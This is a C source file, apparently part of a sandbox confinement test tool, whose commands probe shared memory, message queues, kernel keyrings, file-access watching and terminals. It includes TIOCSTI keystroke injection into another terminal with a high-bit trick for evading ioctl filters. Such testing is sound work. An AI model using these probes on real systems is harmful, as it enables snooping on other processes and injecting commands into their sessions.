/* Attacks on shared memory, queues and key rings; peeking at what others do; the terminal. */
#include "attack.h"

#include <linux/keyctl.h>
#include <mqueue.h>
#include <poll.h>
#include <signal.h>
#include <sys/fanotify.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/types.h>

/* shm-read KEY / shm-write KEY TEXT: a System V segment. */
static char *segment(const char *key) {
    int id = shmget((key_t)number(key), 0, 0);
    return id < 0 ? (char *)-1 : shmat(id, NULL, 0);
}

static int shm_read(int count, char **a) {
    (void)count;
    char *at = segment(a[0]);
    if (at == (char *)-1)
        return failed("shm");
    printf("%.200s\n", at);
    return 0;
}

static int shm_write(int count, char **a) {
    (void)count;
    char *at = segment(a[0]);
    if (at == (char *)-1)
        return failed("shm");
    strcpy(at, a[1]);
    return worked();
}

/* shm-remove KEY. */
static int shm_remove(int count, char **a) {
    (void)count;
    int id = shmget((key_t)number(a[0]), 0, 0);
    return id >= 0 && shmctl(id, IPC_RMID, NULL) == 0 ? worked() : failed("shmctl");
}

/* sem-set KEY: a semaphore's value. */
static int sem_set(int count, char **a) {
    (void)count;
    int id = semget((key_t)number(a[0]), 0, 0);
    return id >= 0 && semctl(id, 0, SETVAL, 7) == 0 ? worked() : failed("sem");
}

/* msg-read KEY: a message from a System V queue. */
static int msg_read(int count, char **a) {
    (void)count;
    struct { long type; char text[256]; } message;
    int id = msgget((key_t)number(a[0]), 0);
    memset(&message, 0, sizeof message);
    if (id < 0 || msgrcv(id, &message, sizeof message.text - 1, 0, IPC_NOWAIT) < 0)
        return failed("msgrcv");
    puts(message.text);
    return 0;
}

/* mq-read NAME: a message from a POSIX queue. */
static int mq_read(int count, char **a) {
    (void)count;
    char room[8193] = "";
    mqd_t queue = mq_open(a[0], O_RDONLY | O_NONBLOCK);
    if (queue < 0)
        return failed("mq_open");
    if (mq_receive(queue, room, sizeof room - 1, NULL) < 0)
        return failed("mq_receive");
    puts(room);
    return 0;
}

/* posix-shm NAME: a segment of /dev/shm. */
static int posix_shm(int count, char **a) {
    (void)count;
    return spill(shm_open(a[0], O_RDONLY, 0));
}

/* key-search RING NAME, key-add RING NAME TEXT, key-read ID: the key rings. RING is @u (user) or @us (its session). */
static long ring(const char *name) {
    return strcmp(name, "@u") == 0 ? KEY_SPEC_USER_KEYRING : KEY_SPEC_USER_SESSION_KEYRING;
}

static int key_print(long id) {
    char room[256] = "";
    if (id < 0 || syscall(SYS_keyctl, KEYCTL_READ, id, room, sizeof room - 1) < 0)
        return failed("keyctl");
    puts(room);
    return 0;
}

static int key_search(int count, char **a) {
    (void)count;
    return key_print(syscall(SYS_keyctl, KEYCTL_SEARCH, ring(a[0]), "user", a[1], 0));
}

static int key_read(int count, char **a) {
    (void)count;
    return key_print(number(a[0]));
}

static int key_add(int count, char **a) {
    (void)count;
    long id = syscall(SYS_add_key, "user", a[1], a[2], strlen(a[2]), ring(a[0]));
    if (id < 0)
        return failed("add_key");
    char text[32];
    snprintf(text, sizeof text, "%ld", id);
    if (count > 3) /* for a setup script: where the key's number goes */
        leave(a[3], text);
    return worked();
}

/* key-forget NAME: takes a key out of the user's ring. */
static int key_forget(int count, char **a) {
    (void)count;
    long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", a[0], 0);
    return id > 0 && syscall(SYS_keyctl, KEYCTL_UNLINK, id, KEY_SPEC_USER_KEYRING) == 0 ? worked() : failed("keyctl");
}

static int key_request(int count, char **a) {
    (void)count;
    return key_print(syscall(SYS_request_key, "user", a[0], NULL, KEY_SPEC_USER_KEYRING));
}

/* Waits for something to read. */
static int event(int fd, const char *what) {
    struct pollfd waiting = { .fd = fd, .events = POLLIN };
    puts("watching");
    return poll(&waiting, 1, 1500) == 1 ? worked() : failed(what);
}

/* inotify PATH: tells when somebody uses it. */
static int watch_inotify(int count, char **a) {
    (void)count;
    int fd = inotify_init1(0);
    if (fd < 0 || inotify_add_watch(fd, a[0], IN_ALL_EVENTS) < 0)
        return failed("inotify");
    return event(fd, "no event");
}

/* fanotify PATH FLAGS: the same by fanotify; without privilege only with file ids. */
static int watch_fanotify(int count, char **a) {
    int fd = fanotify_init(FAN_CLASS_NOTIF | FAN_REPORT_FID, O_RDONLY);
    unsigned flags = FAN_MARK_ADD | (count > 1 ? (unsigned)number(a[1]) : 0);
    if (fd < 0)
        return failed("fanotify_init");
    if (fanotify_mark(fd, flags, FAN_OPEN | FAN_CLOSE | FAN_EVENT_ON_CHILD, AT_FDCWD, a[0]) != 0)
        return failed("fanotify_mark");
    return event(fd, "no event");
}

static volatile sig_atomic_t noticed;

static void notice(int signal) {
    (void)signal;
    noticed = 1;
}

/* dnotify FOLDER: the oldest way to be told. */
static int watch_dnotify(int count, char **a) {
    (void)count;
    signal(SIGIO, notice);
    int fd = open(a[0], O_RDONLY | O_DIRECTORY);
    if (fd < 0 || fcntl(fd, F_NOTIFY, DN_ACCESS | DN_MODIFY | DN_CREATE | DN_DELETE | DN_MULTISHOT) != 0)
        return failed("F_NOTIFY");
    puts("watching");
    for (int tenth = 0; tenth < 15 && !noticed; tenth++)
        usleep(100000);
    return noticed ? worked() : failed("no event");
}

/* lease PATH: told (and able to delay) when somebody opens it. */
static int watch_lease(int count, char **a) {
    (void)count;
    signal(SIGIO, notice);
    int fd = open(a[0], O_RDONLY);
    if (fd < 0 || fcntl(fd, F_SETLEASE, F_RDLCK) != 0)
        return failed("F_SETLEASE");
    puts("watching");
    for (int tenth = 0; tenth < 15 && !noticed; tenth++)
        usleep(100000);
    return noticed ? worked() : failed("no event");
}

/* type TERMINAL TEXT: pushes characters into its input, as if typed (TIOCSTI). */
static int type_in(int count, char **a) {
    (void)count;
    int fd = strcmp(a[0], "-") == 0 ? 0 : open(a[0], O_RDWR | O_NOCTTY);
    if (fd < 0)
        return failed("open");
    for (const char *c = a[1]; *c != 0; c++)
        /* With bits above the request's 32, which the kernel throws away. */
        if (syscall(SYS_ioctl, fd, count > 2 ? 0x700005412UL : 0x5412UL, c) != 0)
            return failed("TIOCSTI");
    return worked();
}

/* take-terminal PATH: makes it our controlling terminal. */
static int take_terminal(int count, char **a) {
    (void)count;
    setsid();
    int fd = open(a[0], O_RDWR);
    return fd >= 0 && ioctl(fd, TIOCSCTTY, 0) == 0 ? worked() : failed("TIOCSCTTY");
}

const struct command IPC_COMMANDS[] = {
    { "shm-read", 1, shm_read },       { "shm-write", 2, shm_write },     { "shm-remove", 1, shm_remove },
    { "sem-set", 1, sem_set },         { "msg-read", 1, msg_read },       { "mq-read", 1, mq_read },
    { "posix-shm", 1, posix_shm },     { "key-search", 2, key_search },   { "key-read", 1, key_read },
    { "key-add", 3, key_add },         { "key-request", 1, key_request }, { "key-forget", 1, key_forget }, { "inotify", 1, watch_inotify },
    { "fanotify", 1, watch_fanotify }, { "dnotify", 1, watch_dnotify },   { "lease", 1, watch_lease },
    { "type", 2, type_in },            { "take-terminal", 1, take_terminal }, { NULL, 0, NULL },
};
